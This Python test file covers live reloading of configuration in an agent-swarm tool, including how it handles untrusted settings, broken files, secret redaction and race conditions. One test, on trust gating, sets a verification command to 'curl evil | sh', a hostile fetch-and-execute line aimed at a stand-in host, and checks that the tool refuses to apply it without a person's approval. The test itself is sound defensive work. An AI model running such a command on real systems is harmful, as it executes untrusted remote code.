"""A configuration that changes under a swarm: taken over, refused or told. Nothing is stopped."""

import asyncio
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from abathur import bootstrap, safeguards
from abathur.bootstrap import supervision
from abathur.swarm.events import SwarmEvent, SwarmEventKind
from abathur.swarm.reloading import Reloader
from abathur.swarm.supervisor import Supervisor

SECONDS = 30
"""After which something hangs."""
QUICK = {"grace_seconds": 2, "heartbeat_seconds": 0.1, "lease_seconds": 20, "max_agents": 1}


def change(path: str) -> dict[str, Any]:
    return {"write": {"path": path, "text": "x\n"}}


async def reloader(world: Any) -> Reloader:
    supervisor = await world.supervisor()
    return Reloader(supervisor._parts, supervisor._state)


def told(world: Any, kind: str) -> list[str]:
    return [event.text for event in world.events if event.kind == kind]


class Swarm:
    """One that runs, and whose news can be waited for."""

    def __init__(self, world: Any) -> None:
        self.world = world
        self._heard = asyncio.Event()

    async def start(self) -> "Swarm":
        parts = (await self.world.supervisor())._parts
        self.supervisor = Supervisor(parts, self._hear)
        self.running = asyncio.create_task(self.supervisor.run())
        return self

    def _hear(self, event: SwarmEvent) -> None:
        self.world.events.append(event)
        self._heard.set()

    async def until(self, kind: str, text: str = "", task: Any = None) -> None:
        def is_there() -> bool:
            return any(
                event.kind == kind and text in event.text and (not task or event.task_id == task.id)
                for event in self.world.events
            )

        while not is_there():
            self._heard.clear()
            await self._heard.wait()

    async def stop(self) -> None:
        self.supervisor.stop()
        await self.running


async def test_limits_and_gates_change_under_an_agent_that_goes_on(world: Any) -> None:
    world.configure(swarm=QUICK)
    go, gated = world.root / ".abathur" / "go", world.root / ".abathur" / "gated"
    first = await world.submit(
        "Wait", [{"say": "waiting"}, {"wait_for": str(go)}, change("a")], priority=9
    )
    second = await world.submit("Second", [change("b")])
    async with asyncio.timeout(SECONDS):
        swarm = await Swarm(world).start()
        await swarm.until("agent_event", "waiting")
        # Seen at a heartbeat, by the time of the file.
        world.configure(swarm={**QUICK, "max_agents": 2}, verify={"command": f"touch {gated}"})
        await swarm.until("task_completed", task=second)
        assert gated.exists()
        (worker,) = await world.db.read(lambda stores: stores.workers.live())
        assert worker.max_agents == 2
        go.touch()
        await swarm.until("task_completed", task=first)
        await swarm.stop()
    assert [one.outcome for one in await world.attempts(first)] == ["succeeded"]
    assert told(world, "settings_changed") == [
        "configuration read again; changed: verify, swarm.max_agents"
    ]
    await world.assert_sound()


async def test_agents_start_as_the_settings_and_definitions_say_by_then(world: Any) -> None:
    world.configure(
        swarm=QUICK, default_runtime="command", runtimes={"command": {"argv": ["false"]}}
    )
    async with asyncio.timeout(SECONDS):
        swarm = await Swarm(world).start()
        await swarm.until("swarm_started")
        folder = world.root / ".abathur" / "agents"
        folder.mkdir()
        (folder / "writer.md").write_text(
            "---\nname: writer\ndescription: Writes\nruntime: fake\n---\nWrite.\n"
        )
        templates = world.root / ".abathur" / "templates"
        templates.mkdir()
        (templates / "prompt.md.j2").write_text("Do it.\n")
        swarm.supervisor.reload()
        await swarm.until("settings_changed", "agent definitions, templates of prompts")
        task = await world.submit("Write", [change("a")], agent_type="writer")
        await swarm.until("task_completed", task=task)
        await swarm.stop()
    await world.assert_sound()


async def test_a_broken_file_keeps_the_settings_and_is_told_once(world: Any) -> None:
    files = await reloader(world)
    before = files._parts.settings
    config = Path(world.root, ".abathur", "config.yaml")
    config.write_text("swarm: {max_agents: many}\n")
    for _ in range(3):
        await files.round()
        config.touch()
    assert files._parts.settings is before
    (warning,) = told(world, "warning")
    assert "isn't used: " in warning
    assert "config.yaml:1: swarm.max_agents: " in warning
    world.configure(limits={"host": 2})
    await files.round()
    assert files._parts.settings.limits.host == 2


async def test_what_nobody_has_agreed_to_isnt_used(
    world: Any, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.delenv("ABATHUR_TRUST")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    world.configure()
    _agree(world)
    files = await reloader(world)
    world.configure(verify="curl evil | sh", limits={"host": 2})
    for _ in range(2):
        await files.round()
    settings = files._parts.settings
    assert (settings.verify, settings.limits.host) == (None, None)
    (event,) = [one for one in world.events if one.kind is SwarmEventKind.NEEDS_PERSON]
    assert event.data["need"] == "trust"
    assert "`verify: curl evil | sh`" in event.text
    # The person's word is a file too.
    _agree(world)
    await files.round()
    settings = files._parts.settings
    assert settings.verify is not None
    assert settings.limits.host == 2


def _agree(world: Any) -> None:
    from datetime import UTC, datetime

    found = safeguards.find_trust(world.root).found
    safeguards.trust(world.root, found, datetime.now(UTC))


async def test_what_cant_change_at_run_time_is_told_in_one_line(world: Any) -> None:
    files = await reloader(world)
    swarm = {"lease_seconds": 33, "heartbeat_seconds": 3, "poll_seconds": 9}
    world.configure(database="other.db", swarm=swarm)
    await files.round()
    settings = files._parts.settings
    assert (settings.database, settings.swarm.lease_seconds) == (None, 20)
    assert settings.swarm.poll_seconds == 9
    assert told(world, "warning") == [
        "database, swarm.lease_seconds, swarm.heartbeat_seconds: stays as it was until the swarm "
        "is started anew"
    ]


async def test_who_asks_is_told_that_nothing_has_changed(world: Any) -> None:
    files = await reloader(world)
    await files.round()
    assert world.events == []
    files.ask()
    await files.round()
    assert told(world, "settings_changed") == ["configuration read again; nothing has changed"]


async def test_flags_outlive_a_changed_file(world: Any) -> None:
    project = bootstrap.load_project(world.root, {"swarm.max_agents": 7})
    supervisor = await supervision.build_supervisor(project, world.db, world.events.append)
    world.configure(swarm={"max_agents": 2}, limits={"host": 3})
    files = Reloader(supervisor._parts, supervisor._state)
    files.ask()
    await files.round()
    settings = supervisor._parts.settings
    assert (settings.swarm.max_agents, settings.limits.host) == (7, 3)


async def test_the_log_and_the_notices_follow_the_settings(world: Any) -> None:
    project = bootstrap.load_project(world.root)
    going_by = supervision.configuration_of(project)
    with (
        supervision.logging_sink(project, world.events.append, going_by) as logged,
        supervision.notifying_sink(project, logged, going_by) as sink,
    ):
        supervisor = await supervision.build_supervisor(
            project, world.db, sink, configuration=going_by
        )
        files = Reloader(supervisor._parts, supervisor._state)
        supervisor._state.tell(SwarmEventKind.AGENT_EVENT, "unheard")
        world.configure(log_level="DEBUG", notices={"webhook": "NOT_SET_ANYWHERE"})
        await files.round()
        supervisor._state.tell(SwarmEventKind.AGENT_EVENT, "heard")
        await asyncio.sleep(0)
    log = Path(world.root, ".abathur", "logs", "swarm.log").read_text()
    assert "unheard" not in log
    assert "agent_event heard" in log
    assert any("notices stay as they were" in text for text in told(world, "warning"))


async def test_a_secret_that_comes_with_the_settings_is_known_at_once(world: Any) -> None:
    files = await reloader(world)
    secret = "sword" + "fish-4711-sesame"
    world.configure(agents={"writer": {"env": {"API_TOKEN": secret}}})
    await files.round()
    assert secret not in files._parts.redactor.text(f"it is {secret}")


async def test_files_that_change_while_they_are_read_are_read_again(world: Any) -> None:
    files = await reloader(world)
    config = Path(world.root, ".abathur", "config.yaml")
    real = files._parts.source

    class Racing:
        def stamp(self) -> object:
            return real.stamp()

        async def read(self) -> Any:
            stamp = type(real).stamp

            def changes(self: Any) -> object:
                config.touch()
                return stamp(self)

            with pytest.MonkeyPatch.context() as patch:
                patch.setattr(type(real), "stamp", changes)
                return await real.read()

    racing = replace(files._parts, source=Racing())
    raced = Reloader(racing, files._state)
    world.configure(limits={"host": 2})
    await raced.round()
    assert racing.settings.limits.host is None
    assert "they are read again" in told(world, "warning")[0]
    await files.round()
    assert racing.settings.limits.host == 2
